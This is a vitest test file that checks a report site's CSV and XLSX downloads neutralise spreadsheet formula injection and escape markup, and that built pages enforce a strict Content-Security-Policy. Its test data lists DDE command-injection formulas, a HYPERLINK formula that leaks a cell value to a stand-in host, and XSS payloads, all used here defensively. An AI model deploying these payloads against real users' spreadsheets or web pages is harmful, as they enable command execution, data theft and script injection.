/**
 * Pages, on top of test/site/site.test.ts (which builds the site once with
 * markup, script and formula names, opens every page in chromium, fails on any
 * dialog, checks the CSV download of the formula names, scans every built file
 * for personal data and checks every page's CSP with ./csp.ts). Added here
 * without a second site build (which would race on Framework's cache):
 * - the download code neutralises every formula-injection spelling, in CSV and
 *   XLSX (XLSX cells are inline strings, never `<f>`), and escapes markup;
 * - in a built site (dist/, when `npm run build` has made one), every page's
 *   Content-Security-Policy forbids inline script other than the page's own,
 *   by hash: a `<script>` that data could inject does not run.
 */
import { existsSync } from "node:fs";
import { join } from "node:path";
import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
// @ts-expect-error: a plain JS module of the report site
import { neutralize } from "../../reports/components/dataTable.js";
import { xlsx } from "../../reports/components/xlsx.js";
import { ROOT } from "../helpers/cli.ts";
import { expectStrictCsp } from "./csp.ts";

const FORMULAS = [
  '=HYPERLINK("http://example.invalid/?x="&A1,"点我")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
const MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>'];

describe("downloads neutralise formulas and keep markup as text", () => {
  it("CSV cells that a spreadsheet would read as a formula are prefixed with '", () => {
    for (const f of FORMULAS) expect(neutralize(f)).toBe(`'${f}`);
    for (const s of ["张三", "<script>alert(1)</script>", "1980.03", "", "a=b"])
      expect(neutralize(s)).toBe(s);
    expect(neutralize(-5)).toBe(-5); // numbers stay numbers
  });

  it("XLSX cells are inline strings (never formulas) with markup escaped", () => {
    const zip = unzipSync(xlsx([["姓名"], ...[...FORMULAS, ...MARKUP].map((v) => [neutralize(v)])]));
    const sheet = strFromU8(zip["xl/worksheets/sheet1.xml"] as Uint8Array);
    expect(sheet).not.toMatch(/<f[\s>]/);
    expect(sheet).not.toContain("<script");
    expect(sheet).not.toContain("<img");
    expect(sheet).toContain("&lt;script&gt;alert(1)&lt;/script&gt;");
    expect(sheet.match(/t="inlineStr"/g)).toHaveLength(1 + FORMULAS.length + MARKUP.length);
  });
});

const dist = join(ROOT, "dist");

describe.skipIf(!existsSync(join(dist, "index.html")))("built site (dist/)", () => {
  it("every page's CSP allows scripts only from the origin and its own inline scripts by hash", () => {
    expectStrictCsp(dist);
  });
});
